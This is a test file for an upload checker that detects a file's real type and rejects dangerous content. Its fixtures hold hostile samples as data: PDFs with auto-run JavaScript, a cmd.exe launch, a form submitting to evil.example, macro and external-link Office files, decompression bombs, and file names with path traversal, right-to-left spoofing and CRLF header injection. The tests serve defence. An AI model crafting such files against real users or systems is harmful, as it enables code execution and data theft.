/** What people hand in is told by its bytes, and nothing is kept that acts, hides or unpacks without end. */
import { describe, expect, it } from 'vitest';
import { checkFile } from './check-file.ts';
import { cleanName } from './file-kind.ts';
import { aJpeg, anOfficeFile, aPdf, aPng, aWebp, packedObjects } from './sample-files.fixture.ts';

const verdict = async (bytes: Buffer | string, name = 'tep') => {
  const found = await checkFile(Buffer.from(bytes), name);
  return found.ok ? found.value : (found.refusals[0]?.code.replace('files.', '') ?? '');
};
const rels = (type: string, mode = 'External') =>
  `<Relationships><Relationship Id="1" Type="http://x/${type}" Target="http://evil.example/a" TargetMode="${mode}"/></Relationships>`;
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

describe('an ordinary file', () => {
  it.each<[string, Buffer | string]>([
    ['pdf', aPdf()],
    ['pdf', aPdf({ extra: packedObjects('5 0 << /Type /Outlines >>') })],
    ['jpeg', aJpeg()],
    // Telephones add a second picture or a short film of their own.
    ['jpeg', aJpeg({ after: Buffer.from('\xff\xd8\xff\xe0 second picture', 'latin1') })],
    ['png', aPng()],
    ['webp', aWebp()],
    ['xlsx', anOfficeFile('xlsx', { 'xl/_rels/a.xml.rels': rels('hyperlink') })],
    ['docx', anOfficeFile('docx')],
    ['txt', 'Đơn đề nghị hỗ trợ\n1 < 2'],
  ])('is taken as %s', async (kind, bytes: Buffer | string) => {
    expect(await verdict(bytes)).toBe(kind);
  });

  it('is what it holds, whatever it is called', async () => {
    expect(await verdict(aPdf(), 'anh.jpg')).toBe('pdf');
    expect(await verdict('mã,tên\n1,Hòa', 'danh sach.CSV')).toBe('csv');
    expect(await verdict('mã,tên', 'setup.exe')).toBe('txt');
  });
});

describe('a file that acts', () => {
  it.each<[string, Buffer | string]>([
    ['a script when it opens', aPdf({ catalogue: `/OpenAction ${SCRIPT}` })],
    ['a script with a disguised name', aPdf({ catalogue: '/OpenAction << /S /J#61vaScript /JS (x) >>' })],
    ['a script in packed objects', aPdf({ extra: packedObjects(`5 0 ${SCRIPT}`) })],
    ['a program to start', aPdf({ extra: '8 0 obj << /S /Launch /F (cmd.exe) >> endobj' })],
    ['a form that sends itself', aPdf({ extra: '8 0 obj << /S /SubmitForm /F (http://evil.example) >> endobj' })],
    ['a second file behind a PDF', Buffer.concat([aPdf(), anOfficeFile('xlsx')])],
    ['a page behind a picture', aJpeg({ after: Buffer.from('<script>alert(1)</script>') })],
    ['a page in the words of a picture', aJpeg({ comment: '<html><body>' })],
    ['a page behind a picture of another kind', Buffer.concat([aWebp(), Buffer.from('<html>')])],
    ['a page in the words of a picture of another kind', aWebp(['XMP ', Buffer.from('<script>')])],
    ['an archive behind a picture', aPng({ after: anOfficeFile('docx') })],
    ['macros', anOfficeFile('xlsx', { 'xl/vbaProject.bin': 'x' })],
    ['macros by their type alone', anOfficeFile('docx', {}, '<Types ContentType="x.macroEnabled.main+xml"/>')],
    ['controls', anOfficeFile('docx', { 'word/activeX/activeX1.xml': 'x' })],
    ['a page as text', '<!DOCTYPE html><p>x'],
    ['a drawing with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'],
  ])('is refused: %s', async (_, bytes) => {
    expect(await verdict(bytes)).toBe('active');
  });
});

describe('a file that carries or fetches others', () => {
  it.each<[string, Buffer | string]>([
    ['attached to a PDF', aPdf({ catalogue: '/Names << /EmbeddedFiles 7 0 R >>' })],
    ['embedded in a document', anOfficeFile('docx', { 'word/embeddings/oleObject1.bin': 'x' })],
    ['a template from elsewhere', anOfficeFile('docx', { 'word/_rels/settings.xml.rels': rels('attachedTemplate') })],
    ['a picture from elsewhere', anOfficeFile('docx', { 'word/_rels/document.xml.rels': rels('image') })],
    ['another workbook', anOfficeFile('xlsx', { 'xl/externalLinks/externalLink1.xml': 'x' })],
  ])('is refused: %s', async (_, bytes) => {
    expect(await verdict(bytes)).toBe('attached');
  });
});

describe('a file nobody can look into', () => {
  it.each<[string, Buffer | string, string]>([
    ['locked', aPdf({ catalogue: '/Encrypt 7 0 R' }), 'locked'],
    ['packed in a way we do not read', aPdf({ extra: packedObjects('x', 'LZWDecode') }), 'broken'],
    ['cut off', aPdf().subarray(0, 300), 'broken'],
    ['a picture with a part changed', Buffer.from(aPng()).fill(7, 20, 22), 'broken'],
    ['a picture without an end', aJpeg().subarray(0, -3), 'broken'],
    ['a picture too large for any screen', aPng({ width: 60_000, height: 60_000 }), 'bomb'],
    ['the same as a photograph', aJpeg({ width: 65_000, height: 65_000 }), 'bomb'],
    [
      'a workbook that unpacks without end',
      anOfficeFile('xlsx', { 'xl/a.xml': Buffer.alloc(130 * 1024 * 1024) }),
      'bomb',
    ],
    ['packed objects that unpack without end', aPdf({ extra: packedObjects(' '.repeat(60 * 1024 * 1024)) }), 'bomb'],
    ['an archive of anything', anOfficeFile('docx', {}).subarray(0, 60), 'broken'],
    ['parts that lead out of the archive', anOfficeFile('docx', { '../../etc/passwd': 'x' }), 'broken'],
    ['nothing', '', 'empty'],
    ['blanks', ' \n\t', 'empty'],
    ['an old document', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'kind'],
    ['a program', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), 'kind'],
    ['text in another encoding', Buffer.from([0x48, 0xf2, 0x61]), 'kind'],
  ])('is refused: %s', async (_, bytes, why) => {
    expect(await verdict(bytes)).toBe(why);
  });
});

it.each([
  ['../../etc/hóa đơn.exe', 'hóa đơn.pdf'],
  ['C:\\Users\\a\\Giấy phép (2).PDF', 'Giấy phép (2).pdf'],
  ['\u202Efdp.exe', 'fdp.pdf'],
  ['a\r\nset-cookie: x="1".pdf', 'a set-cookie x 1.pdf'],
  ['<img src=x>', 'img src x.pdf'],
  ['....', 'tep.pdf'],
  ['a'.repeat(300), `${'a'.repeat(80)}.pdf`],
])('a name like %j is shown as %j', (given, shown) => {
  expect(cleanName(given, 'pdf')).toBe(shown);
});
